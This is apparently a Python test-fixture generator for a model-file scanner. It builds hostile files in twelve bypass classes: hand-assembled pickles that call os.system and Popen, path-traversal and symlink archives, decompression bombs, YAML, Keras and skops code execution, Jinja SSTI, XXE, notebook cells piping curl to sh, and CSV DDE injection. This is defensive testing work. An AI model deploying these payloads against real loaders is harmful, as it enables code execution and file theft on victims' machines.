"""Hostile files over the twelve classes of bypass; each yields class, file name and bytes.

Nothing here is ever loaded: the payloads are put together opcode by opcode.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

import numpy as np
import safetensors.numpy

Case = tuple[str, str, bytes]


def call(name: str, *arguments: str, protocol: int = 2) -> bytes:
    """A pickle that calls ``module name`` with texts."""
    module, _, attribute = name.rpartition(" ")
    head = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    if protocol >= 4:
        found = text(module) + text(attribute) + b"\x93"
    else:
        found = f"c{module}\n{attribute}\n".encode()
    return head + found + b"(" + b"".join(map(text, arguments)) + b"tR."


def text(value: str) -> bytes:
    """BINUNICODE of ``value``."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


SYSTEM = call("os system", "id")


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive of ``members``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return buffer.getvalue()


def deny_list_gaps() -> Iterator[Case]:
    """1: callables that deny-lists miss or missed."""
    names = (
        "os system", "posix system", "nt system", "subprocess Popen", "subprocess check_output",
        "builtins eval", "builtins exec", "builtins compile", "builtins __import__",
        "builtins open", "builtins getattr", "builtins breakpoint", "__builtin__ eval",
        "pip main", "pip._internal main", "runpy _run_code", "runpy run_path", "cProfile run",
        "profile run", "timeit timeit", "timeit main", "uuid _get_command_stdout",
        "_osx_support _read_output", "_aix_support _read_cmd_output", "imaplib IMAP4_stream",
        "_pyrepl.pager pipe_pager", "multiprocessing.util spawnv_passfds",
        "torch.utils.collect_env run", "torch.storage _load_from_bytes", "numpy.f2py.crackfortran "
        "getlincoef", "numpy.testing._private.utils runstring", "pandas eval", "pandas read_pickle",
        "pandas.io.common get_handle", "logging FileHandler", "logging.config listen",
        "webbrowser open", "pty spawn", "ctypes CDLL", "code InteractiveInterpreter",
        "shutil rmtree", "pathlib.Path unlink", "idlelib.pyshell ModifiedInterpreter",
        "asyncio.unix_events _UnixSubprocessTransport", "bdb Bdb", "trace Trace", "pdb run",
        "doctest debug_script", "ensurepip _run_pip", "venv EnvBuilder", "distutils.spawn spawn",
        "paramiko.proxy ProxyCommand", "joblib load", "joblib.memory Memory", "types CodeType",
        "lib2to3.pgen2.pgen ParserGenerator", "scipy.stats._continuous_distns norm_gen",
        "sqlite3 connect", "socket create_connection", "urllib.request urlopen",
        "smtplib SMTP", "tempfile NamedTemporaryFile", "xmlrpc.server SimpleXMLRPCServer",
        "setuptools.sandbox run_setup", "IPython.core.magic run", "sympy.parsing.sympy_parser "
        "parse_expr", "sklearn.utils._testing TempMemmap", "dill._dill _create_function",
        "cloudpickle.cloudpickle _builtin_type", "marshal loads", "sys settrace", "site addpackage",
    )  # fmt: skip
    for number, name in enumerate(names):
        protocol = (0, 2, 4)[number % 3]
        yield "deny-list gap", f"gap-{number}.pkl", call(name, "id", protocol=protocol)


def indirections() -> Iterator[Case]:
    """2: the dangerous name is not in the file, or not in one piece."""
    pairs = {
        "getattr": b"cbuiltins\ngetattr\n(cos\npath\nX\x06\x00\x00\x00systemtR.",
        "importlib": call("importlib import_module", "os"),
        "attrgetter": call("operator attrgetter", "system"),
        "methodcaller": call("operator methodcaller", "system", "id"),
        "resolve_name": call("pkgutil resolve_name", "os:system", protocol=4),
        "partial": b"cfunctools\npartial\n(cos\nsystem\nX\x02\x00\x00\x00idtR.",
        "dotted": call("numpy f2py.os.system", "id", protocol=4),
        "dotted-vetted": call("sklearn.linear_model LogisticRegression.__init__", protocol=4),
        "through-vetted-module": call("sklearn.base os.system", "id", protocol=4),
        "function-of-vetted-module": call("sklearn.base clone", "id", protocol=4),
        "python2": call("commands getoutput", "id"),
        "python2-builtin": call("__builtin__ execfile", "x", protocol=0),
        "main": call("__main__ run", "id"),
        "relative": call(".os system", "id"),
        "empty-module": call(" system", "id"),
        "ufunc-loader": call("numpy._core _ufunc_reconstruct", "os", "system", protocol=4),
    }
    # The name is the result of a call: STACK_GLOBAL of two computed texts.
    pairs["computed-name"] = (
        b"\x80\x04" + text("os") + b"cbuiltins\nstr\n(" + text("system") + b"tR\x93)R."
    )
    pairs["itemgetter-call"] = b"\x80\x02coperator\nitemgetter\nK\x00\x85RK\x01\x85R."
    pairs["codec"] = call("_codecs encode", "id", "rot13")
    for name, data in pairs.items():
        yield "indirection", f"{name}.pkl", data


def machine_tricks() -> Iterator[Case]:
    """3: memo, stack and opcodes that disassemblers follow wrongly."""
    system = b"cos\nsystem\n"
    argument = text("id") + b"\x85"
    memo = b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94" + text("math")
    cases = {
        "memo-get": b"\x80\x02" + system + b"q\x050h\x05" + argument + b"R.",
        "memoize-swap": memo + b"0h\x00h\x01\x93" + argument + b"R.",
        "put-overwrites": b"\x80\x04"
        + text("math")
        + b"q\x00"
        + text("os")
        + b"q\x00"
        + b"00h\x00"
        + text("system")
        + b"\x93"
        + argument
        + b"R.",
        "dup": b"\x80\x02" + system + b"2" + argument + b"R0.",
        "popped-result": b"\x80\x02" + system + argument + b"R0N.",
        "pop-mark": b"\x80\x02" + system + argument + b"R(K\x011.",
        "inst": b"(" + b"S'id'\nios\nsystem\n.",
        "obj": b"(" + system + text("id") + b"o.",
        "newobj": b"\x80\x02csubprocess\nPopen\n" + argument + b"\x81.",
        "newobj-ex": b"\x80\x04" + text("subprocess") + text("Popen") + b"\x93)}\x92.",
        "build-on-import": b"\x80\x02cbuiltins\nslice\n}" + text("x") + b"K\x01sb.",
        "build-on-class": b"\x80\x02csklearn.base\nBaseEstimator\n}"
        + text("__setstate__")
        + b"cbuiltins\nlist\nsb.",
        "hook-in-state": b"\x80\x02csklearn.base\nBaseEstimator\n)\x81}"
        + text("__setstate__")
        + b"cbuiltins\nlist\nsbK\x01b.",
        "setitem-on-import": b"\x80\x02cbuiltins\ndict\nK\x01K\x02s.",
        "append-on-import": b"\x80\x02cbuiltins\nlist\nK\x01a.",
        "ext1": b"\x80\x02\x82\x01)R.",
        "ext4": b"\x80\x02\x84\x01\x00\x00\x00)R.",
        "call-of-a-call": b"\x80\x02ccollections\ndefaultdict\n"
        + system
        + b"\x85R"
        + text("id")
        + b"\x85R.",
        "call-of-persistent": b"\x80\x02" + text("os.system") + b"Q" + argument + b"R.",
        "unknown-constructor": call("acme.tools Runner", "sh -c id"),
    }
    for name, data in cases.items():
        yield "machine trick", f"{name}.pkl", data


def frame_straddles() -> Iterator[Case]:
    """4: frames that end inside an opcode; the C unpickler then reads bytes again."""
    body = text("os") + text("system") + b"\x93" + text("id") + b"\x85R."
    benign = b"K\x01."
    yield "frame", "short.pkl", b"\x80\x04\x95" + struct.pack("<Q", 3) + body
    yield "frame", "inside-text.pkl", (
        b"\x80\x04\x95" + struct.pack("<Q", 8) + text("x" * 40) + b"0" + benign
    )  # fmt: skip
    yield (
        "frame",
        "nested.pkl",
        (
            b"\x80\x04\x95"
            + struct.pack("<Q", 20)
            + b"\x95"
            + struct.pack("<Q", 3)
            + benign
            + b" " * 8
        ),
    )
    yield "frame", "beyond.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + benign


def broken_streams() -> Iterator[Case]:
    """5: the payload runs, then the stream breaks (nullifAI)."""
    for name, tail in {
        "truncated": b"", "bad-opcode": b"\xff\xff", "underflow": b"000000.",
        "bad-proto": b"\x80\x63", "missing-memo": b"h\x63.",
        "long-text": b"X\xff\xff\xff\x7f", "no-mark": b"t.",
    }.items():  # fmt: skip
        yield "broken stream", f"{name}.pkl", SYSTEM[:-1] + tail
        yield "broken stream", f"{name}.bin", SYSTEM[2:-1] + tail


def second_streams() -> Iterator[Case]:
    """6: the payload is in a later or inner pickle."""
    good = pickle.dumps({"a": 1}, 2)
    yield "second stream", "two.pkl", good + SYSTEM
    yield "second stream", "three.pkl", good + good + call("os system", "id", protocol=0)
    yield "second stream", "padded.pkl", good + b"\0" * 8 + SYSTEM
    yield "second stream", "in-bytes.pkl", pickle.dumps({"a": SYSTEM}, 4)
    yield "second stream", "in-text.pkl", pickle.dumps(call("os system", "id", protocol=0), 2)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    head = magic + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    yield "second stream", "legacy.pt", head + SYSTEM + pickle.dumps([], 2)
    yield "second stream", "legacy-keys.pt", head + good + SYSTEM
    yield "second stream", "loader.pkl", call("pickle loads", "x")
    yield "second stream", "loader.joblib", call("joblib.numpy_pickle load", "/tmp/x")


def containers() -> Iterator[Case]:
    """7: archives that readers read differently."""
    torch = zipped({"archive/data.pkl": SYSTEM, "archive/version": b"3\n"})
    yield "container", "model.pt", torch
    yield "container", "model.bin", torch
    yield "container", "model.dat", zipped({"weights/data.txt": SYSTEM})
    bad_crc = bytearray(torch)
    for at in _each(torch, b"PK\x03\x04"):
        bad_crc[at + 14] ^= 0xFF
    for at in _each(torch, b"PK\x01\x02"):
        bad_crc[at + 16] ^= 0xFF
    yield "container", "bad-crc.pt", bytes(bad_crc)
    encrypted = bytearray(torch)
    for at in _each(torch, b"PK\x01\x02"):
        encrypted[at + 8] |= 1
    yield "container", "encrypted-flag.pt", bytes(encrypted)
    good = zipped({"archive/data.pkl": pickle.dumps({}, 2), "archive/version": b"3\n"})
    yield "container", "renamed-local.pt", good.replace(b"archive/data.pkl", b"archive/evil.pkl", 1)
    hidden = zipped({"a.txt": b"hello"})
    inner = zipped({"data.pkl": SYSTEM})
    member = inner[: inner.index(b"PK\x01\x02")]
    yield "container", "hidden-member.zip", _with_gap(hidden, member)
    yield "container", "prefix.pt", SYSTEM + good
    yield "container", "prefix.pkl", pickle.dumps({"a": 1}, 2) + good
    yield "container", "zip-in-zip.zip", zipped({"inner.zip": zipped({"model.bin": SYSTEM})})
    yield "container", "slip.zip", zipped({"../../etc/cron.d/x": b"* * * * * root id"})
    yield "container", "absolute.zip", zipped({"/etc/passwd": b"x"})
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "container", "symlink.zip", buffer.getvalue()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("data.pkl", pickle.dumps({}, 2))
        archive.fp.write(b"")  # type: ignore[union-attr]
        info = zipfile.ZipInfo("DATA.pkl")
        archive.writestr(info, SYSTEM)
    yield "container", "duplicate.zip", buffer.getvalue()
    yield "container", "wrong-extension.npy", SYSTEM
    yield "container", "wrong-extension.safetensors", SYSTEM
    yield "container", "wrong-extension.txt", SYSTEM
    yield "container", "model.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40)
    yield "container", "method.zip", _with_method(zipped({"a.pkl": SYSTEM}), 93)
    for name, kind, target in (
        ("slip", tarfile.REGTYPE, ""), ("link", tarfile.SYMTYPE, "/etc/passwd"),
        ("hard", tarfile.LNKTYPE, "../x"), ("device", tarfile.CHRTYPE, ""),
    ):  # fmt: skip
        info = tarfile.TarInfo("../../x" if name == "slip" else "x")
        info.type, info.linkname = kind, target
        yield "container", f"{name}.tar", _tar([(info, b"")])
    info = tarfile.TarInfo("model.pkl")
    info.size = len(SYSTEM)
    yield "container", "model.tar", _tar([(info, SYSTEM)])
    yield "container", "model.tar.gz", gzip.compress(_tar([(info, SYSTEM)]))


def _each(data: bytes, magic: bytes) -> Iterator[int]:
    at = data.find(magic)
    while at >= 0:
        yield at
        at = data.find(magic, at + 1)


def _with_gap(archive: bytes, gap: bytes) -> bytes:
    start = archive.index(b"PK\x01\x02")
    end = bytearray(archive[start:])
    at = end.index(b"PK\x05\x06")
    end[at + 16 : at + 20] = struct.pack("<I", start + len(gap))
    return archive[:start] + gap + bytes(end)


def _with_method(archive: bytes, method: int) -> bytes:
    changed = bytearray(archive)
    for magic, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        for found in _each(archive, magic):
            changed[found + at : found + at + 2] = struct.pack("<H", method)
    return bytes(changed)


def _tar(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def compressed() -> Iterator[Case]:
    """8: compressed joblib, and payloads behind raw arrays."""
    packers: dict[str, Callable[[bytes], bytes]] = {
        "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
        "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE),
    }  # fmt: skip
    for name, pack in packers.items():
        yield "compressed", f"{name}.joblib", pack(SYSTEM)
        yield "compressed", f"{name}-second.joblib", pack(pickle.dumps(1, 2)) + pack(SYSTEM)
        yield "compressed", f"{name}-cut.joblib", pack(SYSTEM * 200)[:-9]
    yield "compressed", "lz4.joblib", b"\x04\x22\x4d\x18" + SYSTEM
    yield "compressed", "behind-array.joblib", _behind_array(SYSTEM[2:-1])
    yield "compressed", "behind-array-z.joblib", zlib.compress(_behind_array(SYSTEM[2:-1]))


def _behind_array(payload: bytes) -> bytes:
    """A joblib file of an array, with opcodes between the raw array and STOP."""
    import joblib

    buffer = io.BytesIO()
    joblib.dump(np.arange(1000.0), buffer, protocol=2)
    return buffer.getvalue()[:-1] + payload + b"."


def object_arrays() -> Iterator[Case]:
    """9: arrays of objects are pickles."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + SYSTEM
    yield "object array", "object.npy", npy
    yield "object array", "object.npz", zipped({"a.npy": npy})
    yield "object array", "packed.npz", zipped({"a.npy": npy}, zipfile.ZIP_DEFLATED)
    nested = header.replace(b"'|O'", b"[('a', '<i4'), ('b', '|O')]")
    yield (
        "object array",
        "field.npy",
        (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(nested)) + nested + SYSTEM),
    )
    keras = {
        "config.json": b"{}",
        "metadata.json": b"{}",
        "model.weights.npz": zipped({"w.npy": npy}),
    }
    yield "object array", "model.keras", zipped(keras)
    evil = b"{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': ()}"
    yield "object array", "header.npy", (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(evil)) + evil)


def bombs() -> Iterator[Case]:
    """10: files that ask for more than they are."""
    yield "bomb", "memo.pkl", b"\x80\x02Nr\xff\xff\xff\x7f."
    yield (
        "bomb",
        "bytearray.pkl",
        (b"\x80\x02cbuiltins\nbytearray\n\x8a\x05" + (1 << 34).to_bytes(5, "little") + b"\x85R."),
    )
    yield (
        "bomb",
        "array.pkl",
        (b"\x80\x02cnumpy\nndarray\nJ\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x86\x85R."),
    )
    zeros = bytes(64 << 20)
    yield "bomb", "gzip.joblib", gzip.compress(zeros)
    yield "bomb", "deflate.zip", zipped({"a.bin": zeros}, zipfile.ZIP_DEFLATED)
    yield "bomb", "header.safetensors", struct.pack("<Q", 1 << 40) + b'{"a":1}'
    yield "bomb", "frame.pkl", b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f."
    yield "bomb", "count.gguf", b"GGUF\x03\0\0\0" + struct.pack("<QQ", 1, 1 << 60)
    deep = zipped({"a.bin": b"x"})
    for _ in range(12):
        deep = zipped({"a.zip": deep})
    yield "bomb", "deep.zip", deep
    overlap = zipped({"a": b"x" * 100, "b": b"y" * 100})
    places = list(_each(overlap, b"PK\x01\x02"))
    changed = bytearray(overlap)
    changed[places[1] + 42 : places[1] + 46] = struct.pack("<I", 0)
    yield "bomb", "overlap.zip", bytes(changed)
    yield (
        "bomb",
        "aliases.yaml",
        b"\n".join(
            b"l%d: &l%d [%s]" % (n, n, b", ".join([b"*l%d" % (n - 1)] * 9)) for n in range(1, 9)
        ),
    )


def other_formats() -> Iterator[Case]:
    """11: code in formats that are thought of as data."""

    def keras(layer: dict) -> bytes:
        config = {"class_name": "Sequential", "config": {"layers": [layer]}}
        return zipped({"config.json": json.dumps(config).encode(), "metadata.json": b"{}"})

    layers = {
        "lambda": {"module": "keras.layers", "class_name": "Lambda", "config": {}},
        "module": {"module": "os", "class_name": "function", "config": "system"},
        "get-file": {"module": "keras.utils", "class_name": "function", "config": "get_file"},
        "src": {"module": "keras.src.utils.io_utils", "class_name": "function", "config": "x"},
        "torch": {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {}},
        "savedmodel": {"module": "keras.layers", "class_name": "TFSMLayer", "config": {}},
    }
    for name, layer in layers.items():
        yield "other format", f"{name}.keras", keras(layer)
        yield (
            "other format",
            f"{name}.h5",
            (b"\x89HDF\r\n\x1a\n" + bytes(64) + json.dumps(layer).encode() + bytes(64)),
        )
    for operator in ("ReadFile", "WriteFile", "PyFunc"):
        node = b"\x0a\x01n\x12" + bytes([len(operator)]) + operator.encode()
        graph = b"\x12" + bytes([len(node) + 2]) + b"\x0a" + bytes([len(node)]) + node
        yield "other format", f"{operator}.pb", b"\x08\x01\x12" + bytes([len(graph)]) + graph
    yield "other format", "traversal.onnx", onnx(external="../../etc/passwd")
    yield "other format", "absolute.onnx", onnx(external="/etc/passwd")
    yield "other format", "python.onnx", onnx(operator="PyOp")
    ssti = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    yield "other format", "tokenizer_config.json", json.dumps({"chat_template": ssti}).encode()
    for name, template in {
        "lipsum": "{{ lipsum['__globals__']['os'].popen('id').read() }}",
        "attr": "{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "cycler": "{{ cycler.a }}",
        "concat": "{{ x['_' ~ '_class_' ~ '_'] }}",
    }.items():  # fmt: skip
        yield "other format", f"{name}.jinja", template.encode()
    key, value = b"tokenizer.chat_template", ssti.encode()
    yield "other format", "template.gguf", (
        b"GGUF\x03\0\0\0" + struct.pack("<QQQ", 0, 1, len(key)) + key
        + struct.pack("<IQ", 8, len(value)) + value
    )  # fmt: skip
    for name, node in {
        "function": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"},
        "type": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode"},
        "operator": {"__class__": "methodcaller", "__module__": "operator",
                     "__loader__": "OperatorFuncNode"},
        "loader": {"__class__": "dict", "__module__": "builtins", "__loader__": "EvilNode"},
        "reduce": {"__class__": "Popen", "__module__": "subprocess",
                   "__loader__": "ConstructorFromReduceNode", "content": []},
    }.items():  # fmt: skip
        yield "other format", f"{name}.skops", zipped({"schema.json": json.dumps(node).encode()})
    yaml = {
        "apply": b"a: !!python/object/apply:os.system [id]\n",
        "long": b"a: !<tag:yaml.org,2002:python/object/new:os.system> [id]\n",
        "percent": b"a: !!%70ython/object/apply:os.system [id]\n",
        "tag": b"%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/object/apply:os.system [id]\n",
        "java": b"!!javax.script.ScriptEngineManager []\n",
    }
    for name, data in yaml.items():
        yield "other format", f"{name}.yaml", data
    entity = b'<?xml version="1.0"?>'
    entity += b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'
    yield "other format", "entity.pmml", entity
    yield "other format", "doctype.pmml", b'<!DOCTYPE a SYSTEM "http://e/x.dtd"><PMML/>'
    yield "other format", "utf16.pmml", entity.decode().encode("utf-16")
    for name, magic in {
        "elf": b"\x7fELF\x02\x01\x01",
        "sh": b"#!/bin/sh\nid\n",
        "wasm": b"\0asm\1",
    }.items():
        for suffix in ("bin", "safetensors", "weights"):
            yield "other format", f"{name}.{suffix}", magic + bytes(64)
    sources = {
        "exec": "import base64\nexec(base64.b64decode('aWQ='))\n",
        "system": "import os\nos.system('id')\n",
        "alias": "from os import system as s\ns('id')\n",
        "dunder": "__import__('os').system('id')\n",
        "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        "getattr-constant": "import os\ngetattr(os, 'system')('id')\n",
        "assigned": "import os\nrun = os.popen\nrun('id')\n",
        "subprocess": "import subprocess as s\ns.run('id')\n",
        "subclasses": "().__class__.__bases__[0].__subclasses__()\n",
        "globals": "globals()['__builtins__']['eval']('1')\n",
        "socket": "import socket\nsocket.create_connection(('e', 1))\n",
        "broken": "import os\nos.system('id'\n",
    }
    for name, source in sources.items():
        yield "other format", f"{name}.py", source.encode()
    for name, cell in {
        "shell": "!curl http://e/x | sh", "magic": "%%bash\nwget http://e/x",
        "python": sources["exec"], "assigned": "out = !bash -c id",
        "indented": "if True:\n    !wget e",
    }.items():  # fmt: skip
        cells = [{"cell_type": "code", "source": cell}]
        yield "other format", f"{name}.ipynb", json.dumps({"nbformat": 4, "cells": cells}).encode()
    for name, csv in {
        "dde": b"a,b\n=cmd|' /C calc'!A0,1\n", "plus": b"a\n+cmd|' /C calc'!A0\n",
        "link": b'a\n"=HYPERLINK(""http://e"")"\n', "at": b"a\n@SUM(1+1)*cmd|' /C calc'!A0\n",
    }.items():  # fmt: skip
        yield "other format", f"{name}.csv", csv
    tensors = safetensors.numpy.save({"a": np.zeros(4)})
    yield "other format", "hole.safetensors", tensors + SYSTEM
    yield "other format", "jsonpickle.json", b'{"py/reduce": [{"py/function": "os.system"}]}'


def onnx(*, external: str = "", operator: str = "") -> bytes:
    """A model with one tensor in another file, or one node of ``operator``."""
    from onnx import TensorProto, helper

    nodes = [
        helper.make_node(
            operator or "Identity", ["x"], ["y"], domain="ai.onnx.contrib" if operator else ""
        )
    ]
    value = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    graph = helper.make_graph(nodes, "g", [value], [value])
    if external:
        tensor = TensorProto(name="w", data_type=1, dims=[1], data_location=TensorProto.EXTERNAL)
        entry = tensor.external_data.add()
        entry.key, entry.value = "location", external
        graph.initializer.append(tensor)
    return helper.make_model(graph).SerializeToString()


def weights_only() -> Iterator[Case]:
    """12: what torch.load(weights_only=True) let through (CVE-2025-32434, CVE-2026-24747)."""
    rebuild = b"ctorch._utils\n_rebuild_tensor_v2\n"
    yield (
        "weights_only",
        "setitem.pt",
        zipped({"a/data.pkl": b"\x80\x02" + rebuild + text("x") + b"K\x01s.", "a/version": b"3"}),
    )
    yield (
        "weights_only",
        "build.pt",
        zipped(
            {
                "a/data.pkl": b"\x80\x02" + rebuild + b"}" + text("x") + b"K\x01sb.",
                "a/version": b"3",
            }
        ),
    )
    yield (
        "weights_only",
        "tar.pt",
        _tar([_torch_member("pickle", SYSTEM), _torch_member("sys_info", b"")]),
    )
    yield (
        "weights_only",
        "storage.pt",
        zipped({"a/data.pkl": b"\x80\x02(" + text("evil") + b"tQ.", "a/version": b"3"}),
    )
    yield (
        "weights_only",
        "second.pt",
        zipped({"a/data.pkl": b"\x80\x02}.", "a/version": b"3", "a/data.pkl.bak": SYSTEM}),
    )


def _torch_member(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


CLASSES = (
    deny_list_gaps, indirections, machine_tricks, frame_straddles, broken_streams, second_streams,
    containers, compressed, object_arrays, bombs, other_formats, weights_only,
)  # fmt: skip


def corpus() -> list[Case]:
    """All hostile files."""
    return [case for kind in CLASSES for case in kind()]
